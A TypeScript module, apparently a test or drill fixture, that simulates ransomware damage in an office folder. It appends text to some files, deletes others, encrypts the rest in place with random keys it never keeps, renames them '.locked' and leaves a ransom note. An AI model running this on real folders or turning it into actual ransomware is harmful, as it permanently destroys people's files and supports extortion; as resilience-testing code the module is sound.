import { createCipheriv, randomBytes } from 'node:crypto'
import { appendFileSync, readFileSync, readdirSync, renameSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'

/** What happened to the files of an office on one bad day. Paths are relative to its folder. */
export interface BadDay {
  readonly changed: readonly string[]
  readonly deleted: readonly string[]
  readonly encrypted: readonly string[]
}

const changes = 5
const deletions = 5
const encryptions = 20
/** Files larger than this are left alone: the point is made with small ones. */
const largest = 4 << 20

/** Changes some files, deletes some, and encrypts some as ransomware does: in place, with a note beside them. */
export function haveBadDay(office: string): BadDay {
  const files = pickFiles(office, changes + deletions + encryptions)
  const changed = files.splice(0, Math.min(changes, Math.ceil(files.length / 3)))
  const deleted = files.splice(0, Math.min(deletions, Math.ceil(files.length / 2)))
  for (const file of changed) appendFileSync(join(office, file), '\nA line that spoils the document.\n')
  for (const file of deleted) rmSync(join(office, file))
  for (const file of files) encrypt(join(office, file))
  writeFileSync(join(office, 'READ_ME_TO_GET_YOUR_FILES_BACK.txt'), 'Your files are encrypted. Pay.\n')
  return { changed, deleted, encrypted: files }
}

function encrypt(path: string): void {
  const cipher = createCipheriv('aes-256-ctr', randomBytes(32), randomBytes(16))
  writeFileSync(path, Buffer.concat([cipher.update(readFileSync(path)), cipher.final()]))
  renameSync(path, `${path}.locked`)
}

/** Regular files with content from all over the folder. */
function pickFiles(office: string, count: number): string[] {
  const all = readdirSync(office, { recursive: true, withFileTypes: true })
  const files = all
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name).slice(office.length + 1))
  const step = Math.max(1, Math.floor(files.length / (count * 2)))
  const spread = files.filter((_, i) => i % step === 0)
  return spread.filter((file) => isOrdinary(join(office, file))).slice(0, count)
}

function isOrdinary(path: string): boolean {
  try {
    const { length } = readFileSync(path)
    return length > 0 && length <= largest
  } catch {
    return false
  }
}
